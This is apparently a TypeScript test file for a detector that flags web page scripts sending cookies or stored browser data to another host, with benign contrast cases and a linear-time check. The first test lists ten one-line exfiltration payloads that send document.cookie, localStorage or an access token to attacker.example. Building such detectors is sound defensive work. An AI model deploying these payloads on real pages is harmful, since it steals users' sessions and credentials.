import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sendsSecrets } from '../../../src/code/markdown/page-scripts.ts';
import { assertLinear } from '../../linear-time.ts';

test('cookies, and what the browser keeps for the site, that leave for another machine', () => {
  for (const script of [
    "fetch('https://attacker.example/?' + document.cookie)",
    "const c = document.cookie;\nnew Image().src = 'https://attacker.example/?c=' + encodeURIComponent(c);",
    "var u = 'https://attacker.example/c'; navigator.sendBeacon(u, document.cookie);",
    "let d = JSON.stringify(localStorage); let p = btoa(d); fetch('https://attacker.example/', { method: 'POST', body: p });",
    "document.write('<img src=\"https://attacker.example/?c=' + document.cookie + '\">');",
    "window.open('//attacker.example/?' + document.cookie)",
    "location.assign('https://attacker.example/?' + document['cookie'])",
    "const t = localStorage.getItem('access_token'); axios.post('https://attacker.example', { t });",
    "const all = Object.keys(localStorage).map((k) => localStorage[k]); fetch('https://attacker.example', { method: 'POST', body: all });",
    "const s = new WebSocket('wss://attacker.example'); s.onopen = () => s.send(document.cookie);",
  ])
    assert.equal(sendsSecrets(script), true, script);
});

test('what pages do with them all day', () => {
  for (const script of [
    "const token = localStorage.getItem('token'); fetch('https://api.example.com/me', { headers: { Authorization: 'Bearer ' + token } });",
    "const theme = localStorage.getItem('theme'); fetch('https://api.example.com/items');",
    "const lang = localStorage.getItem('lang'); fetch('https://api.example.com/texts?lang=' + lang);",
    "localStorage.setItem('seen', '1'); fetch('https://api.example.com/items');",
    "fetch('https://cdn.example.com/x.json').then(() => { document.cookie = 'seen=1'; });",
    "if (!document.cookie.includes('consent=1')) show();\nfetch('https://api.example.com/news');",
    "const csrf = document.cookie.match(/csrftoken=([^;]+)/)[1]; fetch('/save', { headers: { 'X-CSRFToken': csrf } });",
    "fetch('http://localhost:8000/?' + document.cookie)",
    "const cart = localStorage.getItem('cart'); fetch('https://shop.example.com/cart', { method: 'POST', body: cart });",
    "document.cookie = 'a=1'; location = 'https://example.com/next';",
  ])
    assert.equal(sendsSecrets(script), false, script);
});

test('a script of many names takes no longer than its length', () =>
  assertLinear(
    'page scripts',
    800,
    (size) => `document.cookie "https://x" ${'a=b; fetch(a); '.repeat(size)}`,
    sendsSecrets,
  ));
